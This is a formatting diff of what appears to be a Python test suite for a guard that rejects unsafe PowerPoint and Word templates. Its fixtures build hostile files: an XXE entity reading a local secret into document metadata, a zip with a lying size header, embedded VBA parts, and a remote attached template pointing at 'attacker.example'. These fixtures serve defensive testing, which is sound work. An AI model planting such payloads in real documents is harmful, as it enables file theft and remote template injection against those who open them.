@@ -32,8 +32,9 @@ TEMPLATE_TYPE = "presentationml.template.main+xml"
 Maker = Callable[[Path], Path]
 
 
-def rezip(source: Path, target: Path, edits: dict[str, bytes | None] | None = None,
-          add: dict[str, bytes] | None = None) -> Path:
+def rezip(
+    source: Path, target: Path, edits: dict[str, bytes | None] | None = None, add: dict[str, bytes] | None = None
+) -> Path:
     """A copy of the package ``source`` with parts replaced (``None``: removed) and added."""
     edits, add = edits or {}, add or {}
     with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
@@ -70,9 +71,11 @@ def _xxe(target: Path, part_name: str) -> Callable[[Path], Path]:
 def _xxe_utf16(tmp: Path) -> Path:
     secret = tmp / "secret.txt"
     secret.write_text(SECRET, "utf-8")
-    xml = (f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>'
-           '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
-           'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&xxe;</dc:title></cp:coreProperties>')
+    xml = (
+        f'<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]>'
+        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
+        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&xxe;</dc:title></cp:coreProperties>'
+    )
     return rezip(PPTX_DEFAULT, tmp / "utf16.pptx", {"docProps/core.xml": xml.encode("utf-16")})
 
 
@@ -99,7 +102,7 @@ def _lying_header(tmp: Path) -> Path:
     target = rezip(PPTX_DEFAULT, tmp / "lying.pptx", add={"ppt/lie.bin": b"\0" * 8_000_000})
     data = bytearray(target.read_bytes())
     central = data.rindex(b"ppt/lie.bin") - 46  # the central directory entry of the part
-    assert data[central:central + 4] == b"PK\x01\x02"
+    assert data[central : central + 4] == b"PK\x01\x02"
     struct.pack_into("<I", data, central + 24, 1000)
     local = struct.unpack_from("<I", data, central + 42)[0]
     struct.pack_into("<I", data, local + 22, 1000)
@@ -145,11 +148,20 @@ def _no_title_layout(tmp: Path) -> Path:
 def _docx_without_styles(tmp: Path) -> Path:
     types = part(DOCX_DEFAULT, "[Content_Types].xml").replace(
         b'<Override PartName="/word/styles.xml" '
-        b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/>', b"")
-    return rezip(DOCX_DEFAULT, tmp / "nostyles.docx",
-                 {"word/styles.xml": None, "[Content_Types].xml": types,
-                  "word/_rels/document.xml.rels": _drop_rel(part(DOCX_DEFAULT, "word/_rels/document.xml.rels"),
-                                                            b'Target="styles.xml"')})
+        b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/>',
+        b"",
+    )
+    return rezip(
+        DOCX_DEFAULT,
+        tmp / "nostyles.docx",
+        {
+            "word/styles.xml": None,
+            "[Content_Types].xml": types,
+            "word/_rels/document.xml.rels": _drop_rel(
+                part(DOCX_DEFAULT, "word/_rels/document.xml.rels"), b'Target="styles.xml"'
+            ),
+        },
+    )
 
 
 def _drop_rel(rels: bytes, marker: bytes) -> bytes:
@@ -169,7 +181,8 @@ def _dangling(tmp: Path) -> Path:
 def _macro_type(tmp: Path) -> Path:
     types = part(PPTX_DEFAULT, "[Content_Types].xml").replace(
         b"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
-        b"application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")
+        b"application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
+    )
     return rezip(PPTX_DEFAULT, tmp / "renamed-pptm.pptx", {"[Content_Types].xml": types})
 
 
@@ -177,9 +190,14 @@ def _add_rel(rels: bytes, rel_type: str, target: str) -> bytes:
     from lxml import etree
 
     root = etree.fromstring(rels)
-    etree.SubElement(root, f"{{{root.nsmap[None]}}}Relationship", Id="rIdLink", TargetMode="External",
-                     Type=f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{rel_type}",
-                     Target=target)
+    etree.SubElement(
+        root,
+        f"{{{root.nsmap[None]}}}Relationship",
+        Id="rIdLink",
+        TargetMode="External",
+        Type=f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{rel_type}",
+        Target=target,
+    )
     return etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)
 
 
@@ -187,10 +205,13 @@ def _remote_attached_template(tmp: Path) -> Path:
     rels = "word/_rels/settings.xml.rels"
     with zipfile.ZipFile(DOCX_DEFAULT) as package:
         has = rels in package.namelist()
-    empty = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
-             b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>')
-    data = _add_rel(part(DOCX_DEFAULT, rels) if has else empty, "attachedTemplate",
-                    "http://attacker.example/normal.dotm")
+    empty = (
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"/>'
+    )
+    data = _add_rel(
+        part(DOCX_DEFAULT, rels) if has else empty, "attachedTemplate", "http://attacker.example/normal.dotm"
+    )
     return rezip(DOCX_DEFAULT, tmp / "injected.docx", {rels: data} if has else {}, {} if has else {rels: data})
 
 
@@ -226,20 +247,36 @@ HOSTILE: list[tuple[str, str, Maker, str]] = [
     ("doctype-after-long-comment", "deck", _doctype_after_long_comment, "document type declaration"),
     ("macro-suffix-pptm", "deck", lambda t: _write("deck.pptm", PPTX_DEFAULT.read_bytes())(t), "macro-enabled"),
     ("macro-suffix-docm", "doc", lambda t: _write("draft.docm", DOCX_DEFAULT.read_bytes())(t), "macro-enabled"),
-    ("vba-project-inside", "deck", lambda t: rezip(PPTX_DEFAULT, t / "vba.pptx", add={"ppt/vbaProject.bin": b"x" * 99}),
-     "contains macros"),
+    (
+        "vba-project-inside",
+        "deck",
+        lambda t: rezip(PPTX_DEFAULT, t / "vba.pptx", add={"ppt/vbaProject.bin": b"x" * 99}),
+        "contains macros",
+    ),
     ("macro-content-type", "deck", _macro_type, "macro-enabled"),
-    ("ole-password-protected", "deck", _write("locked.pptx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096),
-     "password-protected"),
-    ("ole-password-protected-docx", "doc", _write("locked.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096),
-     "password-protected"),
+    (
+        "ole-password-protected",
+        "deck",
+        _write("locked.pptx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096),
+        "password-protected",
+    ),
+    (
+        "ole-password-protected-docx",
+        "doc",
+        _write("locked.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4096),
+        "password-protected",
+    ),
     ("encrypted-zip-entries", "deck", _encrypted_entry, "password-protected"),
     ("bad-crc", "deck", _bad_crc, "damaged"),
     ("no-title-layout", "deck", _no_title_layout, "title placeholder"),
     ("docx-without-styles", "doc", _docx_without_styles, "no styles part"),
     ("dangling-relationship", "deck", _dangling, "missing"),
-    ("malformed-xml", "deck", lambda t: rezip(PPTX_DEFAULT, t / "broken.pptx", {"ppt/presentation.xml": b"<p:pres"}),
-     "not well-formed"),
+    (
+        "malformed-xml",
+        "deck",
+        lambda t: rezip(PPTX_DEFAULT, t / "broken.pptx", {"ppt/presentation.xml": b"<p:pres"}),
+        "not well-formed",
+    ),
     ("remote-attached-template", "doc", _remote_attached_template, "on another computer"),
     ("unc-linked-picture", "deck", _unc_linked_picture, "on another computer"),
     ("word-file-as-deck", "deck", lambda t: _write("draft.pptx", DOCX_DEFAULT.read_bytes())(t), "not a"),
@@ -317,12 +354,24 @@ def test_templates_are_accepted_and_build(
     """A .potx and a .dotx (Office's template files) build like .pptx and .docx."""
     deck_source = bundled_deck_template() if bundled_deck_template().exists() else PPTX_DEFAULT
     doc_source = bundled_doc_template() if bundled_doc_template().exists() else DOCX_DEFAULT
-    potx = rezip(deck_source, tmp_path / "partner.potx", {"[Content_Types].xml": part(
-        deck_source, "[Content_Types].xml").replace(b"presentationml.presentation.main+xml",
-                                                    TEMPLATE_TYPE.encode())})
-    dotx = rezip(doc_source, tmp_path / "partner.dotx", {"[Content_Types].xml": part(
-        doc_source, "[Content_Types].xml").replace(b"wordprocessingml.document.main+xml",
-                                                   b"wordprocessingml.template.main+xml")})
+    potx = rezip(
+        deck_source,
+        tmp_path / "partner.potx",
+        {
+            "[Content_Types].xml": part(deck_source, "[Content_Types].xml").replace(
+                b"presentationml.presentation.main+xml", TEMPLATE_TYPE.encode()
+            )
+        },
+    )
+    dotx = rezip(
+        doc_source,
+        tmp_path / "partner.dotx",
+        {
+            "[Content_Types].xml": part(doc_source, "[Content_Types].xml").replace(
+                b"wordprocessingml.document.main+xml", b"wordprocessingml.template.main+xml"
+            )
+        },
+    )
     check_template(potx, "pptx")
     check_template(dotx, "docx")
     partner_files = potx.read_bytes(), dotx.read_bytes()
@@ -344,14 +393,20 @@ def test_external_hyperlinks_and_local_links_are_fine(tmp_path: Path) -> None:
     check_template(rezip(PPTX_DEFAULT, tmp_path / "local.pptx", {rels: local}), "pptx")
 
 
-def test_real_templates_pass_the_guard(pandoc_reference: Callable[[str], Path], tmp_path: Path,
-                                       cli: Callable[..., CliRun], base_dir: Path) -> None:
+def test_real_templates_pass_the_guard(
+    pandoc_reference: Callable[[str], Path], tmp_path: Path, cli: Callable[..., CliRun], base_dir: Path
+) -> None:
     """No false alarms: Pandoc's reference files, the libraries' defaults and our own outputs."""
     out = tmp_path / "out"
     assert cli("build", base_dir, "-o", out).code == 0
-    for path, kind in [(pandoc_reference("pptx"), "pptx"), (pandoc_reference("docx"), "docx"),
-                       (PPTX_DEFAULT, "pptx"), (DOCX_DEFAULT, "docx"),
-                       (next(out.glob("*.pptx")), "pptx"), (next(out.glob("*.docx")), "docx")]:
+    for path, kind in [
+        (pandoc_reference("pptx"), "pptx"),
+        (pandoc_reference("docx"), "docx"),
+        (PPTX_DEFAULT, "pptx"),
+        (DOCX_DEFAULT, "docx"),
+        (next(out.glob("*.pptx")), "pptx"),
+        (next(out.glob("*.docx")), "docx"),
+    ]:
         check_template(path, kind)  # type: ignore[arg-type]
 
 
